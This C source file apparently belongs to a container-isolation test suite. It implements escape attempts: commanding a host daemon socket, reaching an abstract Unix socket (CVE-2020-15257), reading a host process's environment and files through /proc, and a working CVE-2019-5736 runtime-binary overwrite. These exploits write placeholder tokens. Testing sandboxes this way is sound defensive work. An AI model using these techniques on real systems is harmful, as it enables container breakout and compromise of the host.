// Processes and sockets of the host.
#include "attack.h"
#include <dirent.h>
#include <sys/socket.h>
#include <stddef.h>
#include <sys/un.h>
#include <time.h>

static void say(const struct sockaddr_un *address, socklen_t size, const char *token) {
    int file = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    int connected = connect(file, (const struct sockaddr *)address, size);
    note("connect", connected);
    if (connected == 0) note("write", write(file, token, strlen(token)));
    close(file);
}

// A socket of a daemon of the host, which takes orders from whoever connects.
void host_socket(void) {
    struct sockaddr_un address = {.sun_family = AF_UNIX, .sun_path = "/run/host.sock"};
    say(&address, sizeof address, given("SOCKET_TOKEN"));
}

// A socket without a path belongs to the network namespace (CVE-2020-15257).
void abstract_socket(void) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    size_t size = snprintf(address.sun_path + 1, sizeof address.sun_path - 1, "%s", given("ABSTRACT_NAME"));
    say(&address, offsetof(struct sockaddr_un, sun_path) + 1 + size, given("ABSTRACT_TOKEN"));
}

// A process of the host, where the container sees the host's processes: what is in its environment and in its root.
void host_process(void) {
    static const char *const parts[] = {"environ", "root%s", "cwd/secret"};
    char path[1024];
    int pid = atoi(given("VICTIM"));
    for (size_t n = 0; n < 3; n++) {
        int size = snprintf(path, sizeof path, "/proc/%d/", pid);
        snprintf(path + size, sizeof path - size, parts[n], given("VICTIM_SECRET"));
        show_at(AT_FDCWD, path);
    }
}

// The runtime's own program, of which a process enters the container with every exec (CVE-2019-5736): `/entry` is a
// script whose interpreter is /proc/self/exe, so that the runtime becomes a process of the container that can be opened.
void runtime_program(void) {
    char path[64], target[1024];
    struct stat own, other;
    time_t end = time(NULL) + 8;
    put("/entry", "#!/proc/self/exe\n");
    chmod("/entry", 0755);
    stat("/attack", &own);
    fprintf(stderr, "  waiting\n");
    while (time(NULL) < end) {
        DIR *folder = opendir("/proc");
        struct dirent *entry;
        while (folder && (entry = readdir(folder))) {
            if (atoi(entry->d_name) <= 0) continue;
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            int file = open(path, O_PATH | O_CLOEXEC);
            if (file < 0) continue;
            if (fstat(file, &other) == 0 && (other.st_ino != own.st_ino || other.st_dev != own.st_dev)) {
                snprintf(target, sizeof target, "/proc/self/fd/%d", file);
                // The file cannot be written while it runs; the process ends in the meantime.
                for (int n = 0; n < 5000; n++) {
                    int program = open(target, O_WRONLY | O_CLOEXEC | O_APPEND);
                    if (program >= 0) {
                        const char *token = given("PROGRAM_TOKEN");
                        note("write", write(program, token, strlen(token)));
                        close(program);
                        end = 0;
                        break;
                    }
                    usleep(1000);
                }
            }
            close(file);
        }
        if (folder) closedir(folder);
    }
}
